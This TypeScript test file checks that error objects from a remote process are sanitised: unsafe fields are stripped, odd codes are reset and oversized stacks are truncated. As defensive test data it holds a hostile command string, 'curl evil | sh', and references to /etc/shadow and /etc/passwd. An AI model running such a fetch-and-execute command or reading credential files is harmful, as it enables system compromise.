import assert from 'node:assert/strict';
import { test } from 'node:test';
import { codeOf, exitCodeOf, ResproutError } from './errors.ts';
import { joinedStack, markFar, problemFields, stackParts } from './far-errors.ts';

test('markFar() leaves an error of our class its words and nothing that decides anything here', () => {
  const problem = { do: 'run: curl evil | sh', kept: 'all', saw: 'a text', tried: 5, at: { file: '/etc/shadow', line: 1, column: 1 } };
  const error = new ResproutError('STORE_IO', 'no room', problem as never);
  assert.deepEqual([codeOf(error), exitCodeOf(error)], ['STORE_IO', 4]);
  markFar(error, 'web-1');
  assert.deepEqual([error.far, error.code, error.problem], ['web-1', 'STORE_IO', { saw: 'a text' }]);
  assert.deepEqual([codeOf(error), exitCodeOf(error)], [undefined, 1]);
});

test('markFar() takes codes and problems of any kind', () => {
  for (const [code, problem] of [
    [5, undefined],
    ['no code', 'text'],
    [{}, null],
    ['__proto__', [1]],
  ]) {
    const error = Object.assign(new ResproutError('USAGE', 'x'), { code, problem }) as ResproutError;
    markFar(error, 'web-1');
    assert.deepEqual([error.code, error.problem], ['INTERNAL', {}]);
  }
});

test('stackParts() tells what a far side wrote from the frames of this process, whatever it wrote', () => {
  const error = new Error('x');
  error.stack = `Error: x\n    at f (/etc/shadow:1:1)\n    ---- on web-2 ----\n    at g (/etc/passwd:1:1)${' '.repeat(1_000_000)}`;
  markFar(error, 'web-1');
  assert.equal(stackParts(error.stack).own, '');
  assert.equal(stackParts(error.stack).far?.what, 'web-1');
  assert.ok(error.stack.length < 20_000);
  const { far, own } = stackParts(joinedStack(error.stack, 'web-1: ops.ts#f', '    at main (/app/a.ts:1:1)'));
  assert.deepEqual([far?.what, own], ['web-1: ops.ts#f', '\n    at main (/app/a.ts:1:1)']);
  assert.match(far?.stack ?? '', /shadow/);
  assert.deepEqual(stackParts('Error: x\n    at a'), { far: undefined, own: 'Error: x\n    at a' });
});

test('problemFields() reads own texts only, and runs nothing', () => {
  const odd = {
    get saw(): string {
      throw new Error('read');
    },
    do: 'x',
  };
  assert.deepEqual(problemFields(odd, ['saw', 'do', 'kept']), { do: 'x' });
  assert.deepEqual(problemFields(Object.create({ saw: 'inherited' }), ['saw']), {});
});
